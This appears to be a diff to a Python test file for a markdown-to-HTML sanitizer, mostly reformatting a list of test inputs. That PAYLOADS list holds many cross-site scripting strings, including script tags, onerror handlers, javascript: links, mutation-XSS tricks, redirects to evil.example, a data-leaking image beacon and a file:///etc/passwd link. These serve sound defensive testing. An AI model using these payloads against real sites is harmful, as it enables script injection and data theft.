@@ -30,10 +30,8 @@ BARE = (
     "p br hr em strong del ul li blockquote h4 h5 h6 table thead tbody tr figcaption copy-code".split()  # noqa: SIM905
 )
 PAYLOADS = [
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    '<img srcset="https://evil.example/1.png 1x" src="//evil.example/2.png">',
-    "<svg/onload=alert(1)>",
+    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
+    '<img srcset="https://evil.example/1.png 1x" src="//evil.example/2.png">', "<svg/onload=alert(1)>",
     "<svg><script>alert(1)</script><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
     "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
     "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
@@ -41,8 +39,7 @@ PAYLOADS = [
     "<style>@import url(https://evil.example/x.css);*{background:url(//evil.example)}</style>",
     '<p style="background:url(https://evil.example/)" class="modal" id="csrf">x</p>',
     '<link rel="stylesheet" href="https://evil.example/x.css"><link rel=preload href=//evil.example as=image>',
-    '<base href="https://evil.example/">',
-    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    '<base href="https://evil.example/">', '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
     '<form action="https://evil.example/"><input name=q autofocus onfocus=alert(1)><button formaction=x>go</button></form>',
     '<iframe src="javascript:alert(1)" srcdoc="<script>alert(1)</script>"></iframe>',
     '<object data="data:text/html,x"></object><embed src=x><video poster=//evil.example><audio src=//evil.example>',
@@ -53,24 +50,28 @@ PAYLOADS = [
     "<details open ontoggle=alert(1)><summary>x</summary></details><dialog open>x</dialog><copy-text><input></copy-text>",
     '<template><script>alert(1)</script></template><slot name="x"></slot><custom-thing onclick=x></custom-thing>',
     '<figure class="code evil" onclick=x><pre tabindex="5" id=x><code class="language-python evil">a</code></pre>',
-    "<!-- <script>alert(1)</script> --!><![CDATA[<script>]]><?php echo 1 ?><!DOCTYPE html>",
-    "<plaintext>", "<textarea></textarea><xmp><b>", "<a title='\"><script>alert(1)</script>'>", "</p></div></article><b>",
-    "{{7*7}} {% debug %} ${7*7} <%= 1 %>",
-    "![beacon](https://evil.example/p.png?d=secret)", "![x](//evil.example/p)", "![x](data:image/svg+xml,<svg onload=1>)",
+    "<!-- <script>alert(1)</script> --!><![CDATA[<script>]]><?php echo 1 ?><!DOCTYPE html>", "<plaintext>",
+    "<textarea></textarea><xmp><b>", "<a title='\"><script>alert(1)</script>'>", "</p></div></article><b>",
+    "{{7*7}} {% debug %} ${7*7} <%= 1 %>", "![beacon](https://evil.example/p.png?d=secret)",
+    "![x](//evil.example/p)", "![x](data:image/svg+xml,<svg onload=1>)",
     "![\"onerror=alert(1) x=\"](x\"onerror=alert(1))", "![![a](https://evil.example/a)](https://evil.example/b)",
     "[![a](https://evil.example/a)](javascript:alert(1))", "![x][r]\n\n[r]: https://evil.example/p \"t\"",
-    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](javascript&#58;alert(1))", "[x](java\\\nscript:alert(1))",
-    "[x](<java script:alert(1)>)", "[x](data:text/html;base64,PHN=)", "[x](vbscript:x)", "[x](file:///etc/passwd)",
-    "[x](/keys/1/delete)", "[x](//evil.example)", "[x](?delete=1)", "[x](#top)", "[x](https:evil)", "[x](https:\\\\evil)",
-    "[x](http:///evil)", "[x](https://%00)", "[x](https://[)", "[x](mailto:)", "<javascript:alert(1)>", "<data:text/html,x>",
+    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](javascript&#58;alert(1))",
+    "[x](java\\\nscript:alert(1))", "[x](<java script:alert(1)>)", "[x](data:text/html;base64,PHN=)",
+    "[x](vbscript:x)", "[x](file:///etc/passwd)", "[x](/keys/1/delete)", "[x](//evil.example)", "[x](?delete=1)",
+    "[x](#top)", "[x](https:evil)", "[x](https:\\\\evil)", "[x](http:///evil)", "[x](https://%00)", "[x](https://[)",
+    "[x](mailto:)", "<javascript:alert(1)>", "<data:text/html,x>",
     "[x]\n\n[x]: javascript:alert(1) 'title\"onclick=x'", "[x](https://a.example \"t\\\" onmouseover=alert(1)\")",
-    "[[x](javascript:alert(1))](https://a.example)", "[a](https://a.example)[b](javascript:x)", "[x](https://a.example/\"onclick=x)",
-    "www.a.example\"onclick=x", "https://a.example/<script>", "<https://a.example/\"onclick=x>", "a@b.example\"onclick=x",
-    "xmpp:a@b.example ftp://a.example tel:123", "```\"><script>alert(1)</script>\nx\n```", "```html\n<script>alert(1)</script>\n```",
-    "```js\n\"</code></pre><script>alert(1)</script>\"\n```", "|<script>|\n|-|\n|<img src=x onerror=y>|", "- [x] <input onfocus=x>",
-    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;", "\\(<script>alert(1)</script>\\)", "$$<img src=x>$$",
-    "`<script>|</script>`", "# <svg onload=alert(1)>", "> <script>\n> alert(1)\n> </script>", "<x\n\nonclick=alert(1)>",
+    "[[x](javascript:alert(1))](https://a.example)", "[a](https://a.example)[b](javascript:x)",
+    "[x](https://a.example/\"onclick=x)", "www.a.example\"onclick=x", "https://a.example/<script>",
+    "<https://a.example/\"onclick=x>", "a@b.example\"onclick=x", "xmpp:a@b.example ftp://a.example tel:123",
+    "```\"><script>alert(1)</script>\nx\n```", "```html\n<script>alert(1)</script>\n```",
+    "```js\n\"</code></pre><script>alert(1)</script>\"\n```", "|<script>|\n|-|\n|<img src=x onerror=y>|",
+    "- [x] <input onfocus=x>", "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
+    "\\(<script>alert(1)</script>\\)", "$$<img src=x>$$", "`<script>|</script>`", "# <svg onload=alert(1)>",
+    "> <script>\n> alert(1)\n> </script>", "<x\n\nonclick=alert(1)>",
 ]  # fmt: skip
+NOTE = '<p><span class="image-note">'
 MARKDOWN = """## Plan
 
 Do **this** in *three* steps, see [the docs](https://docs.example.com/a?b=1&c=2) or https://example.org/x.
@@ -185,10 +186,10 @@ def test_a_chip_has_nothing_but_its_own_attributes() -> None:
         (r"so \(a_1<b_2\) is", r'<p>so <code class="math">\(a_1&lt;b_2\)</code> is</p>'),
         ("[go](/keys/)", '<p><span class="link__dead">go <span class="link__host">(/keys/)</span></span></p>'),
         ("<javascript:x>", '<p><span class="link__dead">javascript:x</span></p>'),
-        ("![cat](https://a.example/c.png)", '<p><span class="image-note">Image “cat” on a.example, not loaded</span></p>'),
-        ("![](data:image/png;base64,AA)", '<p><span class="image-note">Image, not shown: data:image/png;base64,AA</span></p>'),
+        ("![cat](https://a.example/c.png)", f"{NOTE}Image “cat” on a.example, not loaded</span></p>"),
+        ("![](data:image/png;base64,AA)", f"{NOTE}Image, not shown: data:image/png;base64,AA</span></p>"),
     ],
-)  # fmt: skip
+)
 def test_markdown_is_drawn(text: str, html: str) -> None:
     assert render_prose(text).html == html
 
@@ -264,10 +265,11 @@ def test_a_table_that_would_fill_megabytes_is_no_table() -> None:
 
 
 REPEATED = [
-    "[", "]", "(", "[a](", "](", "![", "![a](", "[[a]]", "[a][b]", "[a]: b\n", "*", "**", "*a ", "**a", "_a ", "*a_", "a**b c* ",
-    "`", "`` ", "```\n", "~~a", ">", "> ", "> - ", "- ", "- a\n", "1. a\n", "# a\n", "|", "|a|b|\n|-|-|\n", "<", "<a ", "<!--", "&",
-    "&amp;", "\\", "\\(", "\\[a", "www.", "http://a.b ", "<http:", "a@b.c ", "\n", " ", "\t", "x", "\u202e", "\U000e0069", "`|", "`a|b` ",
-    "[a](b \"", "[a](http://x.y)", "([a.b](http://x.y))", "![a](http://x.y)", "\U000f0000", "%F3%B0%80%80",
+    "[", "]", "(", "[a](", "](", "![", "![a](", "[[a]]", "[a][b]", "[a]: b\n", "*", "**", "*a ", "**a", "_a ", "*a_",
+    "a**b c* ", "`", "`` ", "```\n", "~~a", ">", "> ", "> - ", "- ", "- a\n", "1. a\n", "# a\n", "|",
+    "|a|b|\n|-|-|\n", "<", "<a ", "<!--", "&", "&amp;", "\\", "\\(", "\\[a", "www.", "http://a.b ", "<http:",
+    "a@b.c ", "\n", " ", "\t", "x", "\u202e", "\U000e0069", "`|", "`a|b` ", "[a](b \"", "[a](http://x.y)",
+    "([a.b](http://x.y))", "![a](http://x.y)", "\U000f0000", "%F3%B0%80%80",
 ]  # fmt: skip
 CODE = [
     "\n",
